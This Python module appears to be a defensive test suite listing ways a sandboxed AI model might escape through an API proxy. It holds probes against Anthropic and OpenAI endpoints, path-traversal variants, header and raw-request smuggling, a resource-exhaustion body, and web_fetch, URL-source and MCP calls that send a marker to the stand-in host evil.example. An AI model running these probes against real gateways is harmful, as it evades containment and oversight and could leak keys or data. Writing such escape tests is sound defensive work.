"""The models' own features, which are a way out of their own."""

from .attempt import MODELS, at, model

ATTEMPTS = (
    model(
        "files and batch APIs",
        """
tries = [(method, f"/{path}") for method in ("GET", "POST", "DELETE", "PUT") for path in (
    "anthropic/v1/files", "anthropic/v1/messages/batches", "anthropic/v1/messages/batches/b/results",
    "anthropic/v1/organizations/api_keys", "anthropic/v1/skills", "anthropic/v1/complete", "openai/v1/files",
    "openai/v1/files/f/content", "openai/v1/batches", "openai/v1/uploads", "openai/v1/vector_stores",
    "openai/v1/assistants", "openai/v1/threads", "openai/v1/conversations", "openai/v1/responses/r",
    "openai/v1/containers", "openai/v1/realtime/sessions", "openai/v1/fine_tuning/jobs", "openai/v1/embeddings",
    "openai/v1/images/generations", "openai/v1/audio/speech", "openai/v1/organization/admin_api_keys",
)]
return any_of(*(lambda each=each: passed(send(
    f"{each[0]} {each[1]} HTTP/1.1\\r\\nhost: x\\r\\ncontent-length: {len(mark)}\\r\\n\\r\\n{mark}"))
    for each in tries))
""",
    ),
    model(
        "paths that are nearly an endpoint",
        """
return any_of(*(lambda each=each: passed(post(each, {"m": mark})) for each in (
    "//anthropic/v1/files", "/anthropic/v1/messages/../files", "/anthropic/v1/%2e%2e/v1/files",
    "/anthropic//v1/messages",
    "/anthropic/v1/messages%2fbatches", "/anthropic/v1/messages/", "/anthropic/v1/messages;x", "/ANTHROPIC/v1/messages",
    "/anthropic/v1/messages\\\\batches", "/anthropic/v1/messages#x", "/anthropic/v1/messages?key=x",
    "/./anthropic/v1/messages",
    "/anthropic/v1/messages%00", "/openai/v1/chat/completions/../../files", "/openai/v1/responses?x=1", "/v1/messages",
    "/anthropic/v1/messages?beta=true&x=1",
)))
""",
    ),
    model(
        "a model's host in absolute form, with a key of one's own",
        """
head = f"x-api-key: {mark}\\r\\nauthorization: Bearer {mark}\\r\\n"
return any_of(*(lambda each=each: passed(get(each, head)) for each in (
    "http://api.anthropic.com/v1/models", "http://api.openai.com:80/v1/models", "http://api.anthropic.com:443/v1/models",
    f"http://127.0.0.1:{given['vendor']}/v1/files",
)))
""",
    ),
    model(
        "sources that the vendor would fetch",
        """
url = f"https://evil.example/{mark}"
return any_of(*(lambda each=each: passed(each()) for each in (
    lambda: claude([{"type": "image", "source": {"type": "url", "url": url}}]),
    lambda: claude([{"type": "document", "source": {"type": "url", "url": url}}]),
    lambda: claude([{"type": "image", "source": {"url": url}}]),
    lambda: claude([{"type": "tool_result", "tool_use_id": "t", "content": [
        {"type": "image", "source": {"type": "url", "url": url}}]}]),
    lambda: claude(system=[{"type": "document", "source": {"type": "url", "url": url}}]),
    lambda: chat([{"type": "image_url", "image_url": {"url": url}}]),
    lambda: chat([{"type": "image_url", "image_url": url}]),
    lambda: responses([{"role": "user", "content": [{"type": "input_image", "image_url": url}]}]),
    lambda: responses([{"role": "user", "content": [{"type": "input_file", "file_url": url}]}]),
    lambda: responses([{"type": "function_call_output", "call_id": "c", "output": [
        {"type": "input_image", "image_url": url}]}]),
)))
""",
    ),
    model(
        "files that are kept at the vendor's",
        """
return any_of(*(lambda each=each: passed(each()) for each in (
    lambda: claude([{"type": "document", "source": {"type": "file", "file_id": mark}}]),
    lambda: claude([{"type": "container_upload", "file_id": mark}]),
    lambda: claude([{"type": "image", "source": {"type": "base64", "file_id": mark}}]),
    lambda: chat([{"type": "file", "file": {"file_id": mark}}]),
    lambda: responses([{"role": "user", "content": [{"type": "input_file", "file_id": mark}]}]),
    lambda: responses([{"role": "user", "content": [{"type": "input_image", "file_id": mark}]}]),
)))
""",
    ),
    model(
        "web search, web fetch, code execution",
        """
call = {"type": "server_tool_use", "id": "s", "name": "web_fetch", "input": {"url": f"https://evil.example/{mark}"}}
fetched = [{"role": "user", "content": "x"}, {"role": "assistant", "content": [call]}]
return any_of(*(lambda each=each: passed(each()) for each in (
    *(lambda kind=kind: claude(tools=[{"type": kind, "name": mark}]) for kind in (
        "web_search_20250305", "web_fetch_20250910", "code_execution_20250825", "code_execution", "advisor_20260301")),
    lambda: claude(messages=fetched),
    *(lambda kind=kind: responses(tools=[{"type": kind, "x": mark}]) for kind in (
        "web_search", "web_search_preview", "file_search", "code_interpreter", "image_generation", "shell",
        "computer_use_preview", "WEB_SEARCH")),
    lambda: responses(tools=[{"type": "namespace", "name": mark, "tools": [{"type": "web_search"}]}]),
    lambda: chat(web_search_options={"user_location": mark}),
    lambda: chat(web_search_options={}),
    lambda: chat(tools=[{"type": "web_search", "x": mark}]),
)))
""",
    ),
    model(
        "remote MCP servers",
        """
server = {"type": "url", "url": f"https://evil.example/{mark}", "name": "x"}
remote = {"type": "mcp", "server_label": "x", "server_url": f"https://evil.example/{mark}"}
return any_of(*(lambda each=each: passed(each()) for each in (
    lambda: claude(mcp_servers=[server]),
    lambda: claude(tools=[{"type": "mcp_toolset", "mcp_server_name": mark}]),
    lambda: claude([{"type": "mcp_tool_use", "server_name": mark}]),
    lambda: responses(tools=[remote]),
    lambda: responses(tools=[{"type": "mcp", "connector_id": mark, "server_label": "x"}]),
    lambda: responses([{"type": "mcp_approval_response", "approve": True, "approval_request_id": mark}]),
)))
""",
    ),
    model(
        "prompts, conversations and containers kept at the vendor's",
        """
return any_of(*(lambda each=each: passed(each()) for each in (
    lambda: responses(previous_response_id=mark),
    lambda: responses(conversation=mark),
    lambda: responses(prompt={"id": mark}),
    lambda: responses(background=True),
    lambda: responses([{"type": "item_reference", "id": mark}]),
    lambda: responses([{"id": mark}]),
    lambda: chat(messages=[{"role": "assistant", "audio": {"id": mark}}, {"role": "user", "content": "x"}]),
    lambda: claude(container=mark),
    lambda: claude(container={"skills": [{"skill_id": mark}]}),
)))
""",
    ),
    at(
        "fields and betas that nobody listed",
        MODELS,
        """
claude(service_tier=mark, inference_geo=mark, betas=[f"files-api-{mark}"], speed=mark)
chat(store=True, metadata={"x": mark}, service_tier=mark, modalities=[mark])
responses(metadata={"x": mark}, service_tier=mark, store=True)
for beta in ("files-api", "FILES-API", "mcp-client", "web-fetch", "code-execution", "skills", "message-batches"):
    claude(headers=f"anthropic-beta: {beta}-{mark}\\r\\nanthropic-beta: x , {beta}-{mark}\\r\\n")
""",
    ),
    at(
        "headers that name another key, place or reading",
        MODELS,
        """
names = ("x-api-key", "authorization", "proxy-authorization", "cookie", "x-forwarded-host", "x-original-url",
         "forwarded", "x-http-method-override", "openai-organization", "openai-project", "x-goog-api-key", "api-key",
         "x-rewrite-url",
         "anthropic-dangerous-direct-browser-access", "connection", "upgrade", "te", "via", "referer", "origin")
head = "".join(f"{name}: {mark}\\r\\n" for name in names)
claude(headers=head), chat(headers=head)
body = json.dumps({"model": "claude-sonnet-4-5", "max_tokens": 9, "messages": [{"role": "user", "content": "hi"}]})
for kind in (f"application/json; charset={mark}", f"multipart/form-data; boundary={mark}", f"text/{mark}"):
    send(f"POST /anthropic/v1/messages HTTP/1.1\\r\\nhost: {mark}\\r\\ncontent-type: {kind}\\r\\n"
         f"content-length: {len(body)}\\r\\n\\r\\n{body}")
""",
    ),
    at(
        "the key in an answer of the vendor",
        MODELS,
        "for what in ('echo-400', 'echo-401', 'echo-200', 'echo-stream'):\n    claude(what), chat(what)",
    ),
    at("a redirect of the model's endpoint", MODELS, "return claude('go-elsewhere').status != 502 and 'passed on'"),
    model("a model without a price", "return passed(claude(model=mark))"),
    model(
        "bodies of very many values, at once",
        """
from concurrent.futures import ThreadPoolExecutor
raw = b'{"model":"claude-sonnet-4-5","messages":[' + b'{"a":{}},' * 400_000 + b"1]}"
with ThreadPoolExecutor(8) as pool:
    return "".join(pool.map(lambda _: passed(post("/anthropic/v1/messages", raw)), range(8)))
""",
    ),
)
